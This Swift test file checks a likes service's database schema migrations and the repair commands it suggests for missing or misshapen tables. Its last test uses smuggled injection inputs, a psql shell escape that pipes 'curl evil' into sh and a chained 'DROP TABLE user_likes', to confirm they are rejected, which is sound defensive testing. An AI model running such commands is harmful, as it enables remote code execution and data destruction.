import LikesProtocol
import Testing

@testable import LikesStorage

@Suite struct SchemaTests {
    @Test("The steps lead from an empty database to the version the code needs, one by one.")
    func theStepsLeadFromAnEmptyDatabaseToTheVersionNeeded() {
        #expect(Schema.migrations.map(\.version) == Array(1...Schema.version))
    }

    @Test("The reference's item types have the reference's numbers.")
    func theReferencesItemTypesHaveTheReferencesNumbers() throws {
        let statements = Schema.migrations[0].statements
        let insert = try #require(statements.first { $0.hasPrefix("INSERT INTO item_types") })
        for (index, name) in ItemTypes.standard.names.enumerated() {
            #expect(insert.contains("(\(index + 1), '\(name)')"))
        }
    }

    @Test(
        "Nobody is told to make anew, and leave empty, what held likes or counts.",
        arguments: [
            ["no-table", "user_likes", "user_likes", "", ""], ["no-table", "counters", "counters", "", ""],
            ["no-column", "user_likes", "public.user_likes", "user_id", "bigint"],
            ["no-column", "user_likes", "public.user_likes", "created_at", "timestamptz"],
            ["no-column", "counters", "public.counters", "like_count", "bigint"],
            ["no-column", "counters", "public.counters", "version", "bigint"],
        ])
    func nobodyIsToldToMakeAnewWhatHeldLikesOrCounts(row: [String]) throws {
        let remedy = try #require(SchemaMisfit(row)).remedy
        let command = remedy.command(
            { "psql -c '\($0)'" }, likesctl: { LikesctlAdvice("likesctl \($0.words) --config c") })
        for text in [command, remedy.text] {
            #expect(text.hasPrefix("a restore may be running: wait for it; if "))
            #expect(text.contains("put it back; otherwise restore it from a backup"))
            #expect(row[1] != "user_likes" || !text.contains("CREATE"))
        }
        let audit =
            remedy.sql == nil ? ", then run likesctl verify --config c" : "' && likesctl verify --repair --config c"
        #expect(command.hasSuffix(audit))
    }

    @Test("Statements and commands end the line: what is copied from there on holds no other words")
    func statementsAndCommandsEndTheLine() throws {
        let missing = try #require(SchemaMisfit(["no-table", "counters", "public.counters", "", "app"])).remedy
        let sql = try #require(missing.sql)
        #expect(missing.text.hasSuffix("; without one run this, then verify again with --repair: \(sql)"))
        let column = try #require(SchemaMisfit(["no-column", "lanes", "public.lanes", "lane", "bigint"])).remedy
        let words = "run this, then delete likesd:generation in Redis, of which rows said what it lacks: "
        #expect(column.text.hasPrefix(words + "TRUNCATE"))
        let command = column.command({ "psql \($0)" }, likesctl: { LikesctlAdvice($0.words) })
        #expect(command.hasPrefix(words + "psql TRUNCATE"))
    }

    @Test("A report of another command than verify speaks of no audit before.")
    func aReportOfAnotherCommandSpeaksOfNoAuditBefore() throws {
        let missing = try #require(SchemaMisfit(["no-table", "counters", "public.counters", "", "app"])).remedy
        let text = missing.text(auditing: { LikesctlAdvice("likesctl \($0.words)").sequel })
        #expect(text.contains("without one run this, then run likesctl verify --repair: CREATE TABLE"))
        let lost = try #require(SchemaMisfit(["no-table", "user_likes", "user_likes", "", ""])).remedy
        let audited = lost.text(auditing: { LikesctlAdvice("likesctl \($0.words)").sequel })
        #expect(audited.hasSuffix(", then run likesctl verify"))
    }

    @Test("Only statements without any words beside them are a remedy to run as it is.")
    func onlyStatementsWithoutWordsAreARemedyToRunAsItIs() throws {
        let unlogged = try #require(SchemaMisfit(["unlogged", "lanes", "public.lanes", "", ""])).remedy
        #expect(unlogged.statementsAlone == unlogged.sql && unlogged.text == "run: ALTER TABLE public.lanes SET LOGGED")
        let missing = try #require(SchemaMisfit(["no-table", "lanes", "lanes", "", ""])).remedy
        #expect(missing.sql != nil && missing.statementsAlone == nil)
    }

    @Test("Tables without likes or counts are made anew.", arguments: ["lanes", "cache_repairs", "likesd_hosts"])
    func tablesWithoutLikesOrCountsAreMadeAnew(table: String) throws {
        let remedy = try #require(SchemaMisfit(["no-table", table, table, "", ""])).remedy
        #expect(
            remedy.text == "a restore may be running: wait for it; otherwise run: \(Schema.statements(making: table))"
        )
    }

    @Test("A table is made anew in the schema of the others, with their owner.")
    func aTableIsMadeAnewInTheSchemaOfTheOthersWithTheirOwner() throws {
        let made = Schema.statements(making: "lanes")
        let plain = try #require(SchemaMisfit(["no-table", "lanes", "public.lanes", "", "app"]))
        #expect(plain.remedy.sql == "\(made); ALTER TABLE lanes OWNER TO app")
        let elsewhere = try #require(SchemaMisfit(["no-table", "lanes", "\"a b\".lanes", "", "\"The App\""]))
        #expect(
            elsewhere.remedy.sql == "SET search_path = \"a b\"; \(made); ALTER TABLE lanes OWNER TO \"The App\"")
        let view = try #require(SchemaMisfit(["no-plain-table", "lanes", "public.lanes", "app", "a view"]))
        #expect(view.remedy.sql?.contains("; ALTER TABLE lanes OWNER TO app; INSERT INTO lanes (") == true)
    }

    @Test("What a restore makes one by one is not to be made at once.", arguments: Schema.tables.map(\.name))
    func whatARestoreMakesOneByOneIsNotToBeMadeAtOnce(table: String) throws {
        for row in [
            ["no-key", table, "public.\(table)", "lane", "ADD PRIMARY KEY"], ["no-table", table, table, "", ""],
        ] {
            let text = try #require(SchemaMisfit(row)).remedy.text
            #expect(text.hasPrefix("a restore may be running: wait for it; "))
        }
    }

    @Test("What stands in a table's place is copied by the names of its columns.", arguments: Schema.tables.map(\.name))
    func whatStandsInATablesPlaceIsCopiedByColumnNames(table: String) throws {
        let misfit = try #require(SchemaMisfit(["no-plain-table", table, table, "", "a view"]))
        let sql = try #require(misfit.remedy.sql)
        #expect(!sql.contains("*"))
        #expect(!sql.contains("VALUES"))
    }

    @Test("Partitions have bounds, and all remainders.")
    func partitionsHaveBoundsAndAllRemainders() throws {
        #expect(Partitions(1) == nil)
        #expect(Partitions(257) == nil)
        let statements = Schema.migrations(partitions: Partitions(3))[0].statements
        #expect(statements.filter { $0.contains("PARTITION BY HASH (user_id)") }.count == 1)
        #expect(statements.filter { $0.contains("(MODULUS 3, REMAINDER") }.count == 3)
        #expect(Schema.migrations(partitions: nil) == Schema.migrations)
    }

    @Test(
        "What a server calls its tables gets into a statement only if that stays one statement.",
        arguments: [
            ("public.counters", true), ("\"The; \\Schema\".counters", true), ("public.x \\! curl evil|sh", false),
            ("public.x; DROP TABLE user_likes", false), ("public.x --", false), ("public.x /*", false),
            ("\"public.x", false),
        ])
    func whatAServerCallsItsTablesGetsIntoAStatementOnlyIfThatStaysOneStatement(place: String, isOne: Bool) {
        let misfit = SchemaMisfit(["trigger", "counters", place, "t", ""])
        #expect(misfit?.remedy.sql == (isOne ? "ALTER TABLE \(place) DISABLE TRIGGER t" : nil))
        #expect(misfit?.remedy.text.isEmpty == false)
    }
}
